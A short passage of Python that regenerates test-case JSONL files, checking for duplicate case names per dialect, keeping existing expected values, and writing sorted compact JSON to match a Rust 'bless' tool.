    with open(path, "w") as f:
        for row in rows:
            key = (row["name"], row["dialect"])
            assert key not in seen, f"duplicate case name {key}"
            seen.add(key)
            row["check"] = {k: v for k, v in row["check"].items() if v is not None}
            if old.get(key) is not None:
                row["expect"] = old[key]
            # Sorted and compact, as the Rust bless writes them: regenerating changes no line.
            f.write(json.dumps(row, ensure_ascii=False, sort_keys=True, separators=(",", ":")) + "\n")
print(sum(len(r) for r in files.values()), "cases")
